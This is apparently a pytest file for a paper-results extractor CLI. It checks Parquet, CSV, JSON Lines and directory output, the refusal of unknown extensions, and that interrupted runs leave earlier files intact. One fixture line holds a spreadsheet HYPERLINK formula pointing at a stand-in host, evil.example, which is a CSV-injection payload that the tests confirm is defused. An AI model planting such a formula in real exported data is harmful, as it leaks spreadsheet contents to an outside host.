"""`-o` by extension: Parquet, CSV, JSON Lines, a dataset directory; anything else refused.

Every format goes through the same `Target` interface and so has the same
commit-or-abort guarantee: these tests run the real command (`python -m
extractor`) for the formats and the refusals, and break a CSV and a JSON
Lines run half way to check that the earlier file stays byte for byte.
"""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from extractor.cli import cli
from extractor.run import targets
from extractor.run.papers import PAPERS_SCHEMA, papers_path
from extractor.table import SCHEMA

REPO = Path(__file__).resolve().parent.parent
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1)'
PAPERS = [
    {"id": "2401.00001", "title": HOSTILE_TITLE, "date": "2024-03-05",
     "abstract": "FooDet reaches 64.2 AP on COCO test-dev.\nIt is -3.1% WER on LibriSpeech, with a \"quoted\" name."},
    {"id": "2401.00002", "title": "@mention and +plus", "abstract": "We improve top-1 accuracy by 2.5% on ImageNet."},
]


def lbx(*args, cwd=REPO) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "extractor", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, timeout=120)


@pytest.fixture(scope="module")
def runs(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("formats")
    src = d / "papers.jsonl"
    src.write_text("".join(json.dumps(p) + "\n" for p in PAPERS), encoding="utf-8")
    outs = {"parquet": d / "r.parquet", "csv": d / "r.csv", "jsonl": d / "r.jsonl", "dataset": d / "ds"}
    for kind, out in outs.items():
        res = lbx("extract", src, "-o", f"{out}/" if kind == "dataset" else out)
        assert res.returncode == 0, res.stderr
        assert f"next: lbx dashboard {out}" in res.stderr if kind == "parquet" else "next:" in res.stderr
        assert "2 papers with results" in res.stderr and "benchmarks" in res.stderr
    outs["src"] = src
    return outs


def test_csv_is_csv_with_formulas_defused_and_newlines_kept_in_their_cell(runs):
    raw = runs["csv"].read_bytes()
    assert not raw.startswith(b"PAR1")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    assert rows[0] == SCHEMA.names
    titles = {r[rows[0].index("title")] for r in rows[1:]}
    assert "'" + HOSTILE_TITLE in titles and "'@mention and +plus" in titles
    evidence = [r[rows[0].index("evidence")] for r in rows[1:]]
    assert all(not e.startswith(("=", "+", "-", "@")) for e in evidence)
    # a value printed as a plain number ('-3.1%') is no formula: it stays as printed
    assert all(not v.startswith("'") for v in (r[rows[0].index("value_text")] for r in rows[1:]))
    back = pd.read_csv(runs["csv"])
    parquet = pd.read_parquet(runs["parquet"])
    assert len(back) == len(parquet) and list(back.columns) == SCHEMA.names
    assert back["value"].tolist() == parquet["value"].tolist()
    assert back["published"].dropna().tolist() == ["2024-03-05"] * parquet["published"].notna().sum()


def test_jsonl_holds_the_parquet_rows(runs):
    lines = runs["jsonl"].read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    parquet = pq.read_table(runs["parquet"]).to_pylist()
    assert len(records) == len(parquet) and list(records[0]) == SCHEMA.names
    for rec, row in zip(records, parquet):
        row["published"] = row["published"].date().isoformat() if row["published"] else None
        assert {k: v for k, v in rec.items() if k != "confidence"} == {k: v for k, v in row.items() if k != "confidence"}
        assert rec["confidence"] == pytest.approx(row["confidence"], abs=1e-6)


def test_every_format_has_its_papers_table_in_parquet_with_the_abstracts(runs):
    for kind in ("parquet", "csv", "jsonl", "dataset"):
        side = papers_path(str(runs[kind]))
        assert side.endswith(".papers.parquet")
        table = pq.read_table(side)
        assert table.schema.names == PAPERS_SCHEMA.names
        # the abstract as read (the JSON Lines reader joins its lines), which the spans point into
        assert sorted(table.column("abstract").to_pylist()) == sorted(" ".join(p["abstract"].split()) for p in PAPERS)
    assert papers_path(str(runs["csv"])).endswith("r.csv.papers.parquet")  # never r.parquet's


def test_dataset_directory_equals_the_file(runs):
    assert pq.read_table(runs["dataset"]).select(SCHEMA.names).num_rows == pq.read_table(runs["parquet"]).num_rows


@pytest.mark.parametrize("name,ext", [("x.unknown", "'.unknown'"), ("x.txt", "'.txt'"), ("results", "(none)"),
                                      ("x.parquet.bak", "'.bak'")])
def test_an_unknown_extension_is_refused_in_one_line_before_any_work(runs, tmp_path, name, ext):
    res = lbx("extract", runs["src"], "-o", name, cwd=tmp_path)
    assert res.returncode == 2
    assert res.stderr.splitlines() == [
        f"lbx: error: {name}: unknown output format {ext} (use .parquet, .csv, .jsonl or a directory/)"]
    assert os.listdir(tmp_path) == []


def test_the_extension_is_case_blind(runs, tmp_path):
    out = tmp_path / "R.CSV"
    assert lbx("extract", runs["src"], "-o", out, "-q").returncode == 0
    assert out.read_text(encoding="utf-8").startswith('"paper_id"')


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_update_of_a_text_format_is_refused(runs, tmp_path, fmt):
    out = tmp_path / f"r.{fmt}"
    res = lbx("extract", runs["src"], "--update", out)
    assert res.returncode == 2 and len(res.stderr.splitlines()) == 1, res.stderr
    assert res.stderr.startswith(f"lbx: error: {out}: --update needs a Parquet table")
    assert not out.exists()


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_failed_run_leaves_the_earlier_file_byte_for_byte(runs, tmp_path, monkeypatch, fmt):
    out = tmp_path / f"r.{fmt}"
    out.write_bytes(runs[fmt].read_bytes())
    before = out.read_bytes()
    cls = targets.CsvFile if fmt == "csv" else targets.JsonLinesFile

    def broken(self, table):
        raise KeyboardInterrupt  # Ctrl-C after rows were encoded

    monkeypatch.setattr(cls, "_rows", broken)
    res = CliRunner().invoke(cli, ["extract", str(runs["src"]), "-o", str(out), "--workers", "1"])
    assert res.exit_code == 130, res.stderr
    assert out.read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == [f"r.{fmt}"]  # no temporary, no papers table, no lock


def test_an_empty_run_writes_a_header_only_csv_and_an_empty_jsonl(tmp_path):
    src = tmp_path / "p.jsonl"
    src.write_text(json.dumps({"title": "T", "abstract": "Nothing measured here."}) + "\n", encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        assert lbx("extract", src, "-o", tmp_path / f"e.{fmt}", "-q").returncode == 0
    assert list(csv.reader(io.StringIO((tmp_path / "e.csv").read_text(encoding="utf-8")))) == [SCHEMA.names]
    assert (tmp_path / "e.jsonl").read_bytes() == b""
